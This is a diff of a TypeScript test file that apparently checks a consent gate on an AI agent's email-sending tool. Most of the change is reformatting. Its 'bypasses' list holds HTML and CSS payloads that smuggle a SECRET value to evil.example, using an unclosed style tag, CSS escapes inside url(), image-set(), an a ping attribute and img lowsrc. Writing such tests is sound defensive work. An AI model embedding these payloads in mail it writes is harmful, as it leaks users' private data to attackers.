@@ -17,7 +17,14 @@ const user = 'Email ana@example.com a summary of my inbox, as a nice HTML mail l
 
 /** The consent decision for a send to the user-written address with `html` as the HTML body. */
 function decisionFor(html: string) {
-  const input = { to: ['ana@example.com'], cc: [], bcc: [], subject: 'Summary', body: 'See the HTML.', html_body: html };
+  const input = {
+    to: ['ana@example.com'],
+    cc: [],
+    bcc: [],
+    subject: 'Summary',
+    body: 'See the HTML.',
+    html_body: html,
+  };
   return decideConsent(
     { name: 'gmail_send_email', sideEffects: true, consent: sendEmailConsent },
     input,
@@ -54,7 +61,10 @@ const bypasses: [string, string][] = [
   ['<style> without its end tag', '<style>body{background:url(https://evil.example/t?d=SECRET)}'],
   ['CSS escape inside url()', '<div style="background:url(https\\3a //evil.example/t?d=SECRET)">x</div>'],
   ['CSS escape in the url function name', '<div style="background:\\75rl(https://evil.example/t?d=SECRET)">x</div>'],
-  ['image-set() with a string', `<div style="background-image:image-set('https://evil.example/t?d=SECRET' 1x)">x</div>`],
+  [
+    'image-set() with a string',
+    `<div style="background-image:image-set('https://evil.example/t?d=SECRET' 1x)">x</div>`,
+  ],
   // Attributes that are not in the list.
   ['<a ping> (a POST on click)', '<a href="https://ana.example/" ping="https://evil.example/p?d=SECRET">open</a>'],
   ['<img lowsrc>', '<img lowsrc="https://evil.example/t?d=SECRET">'],
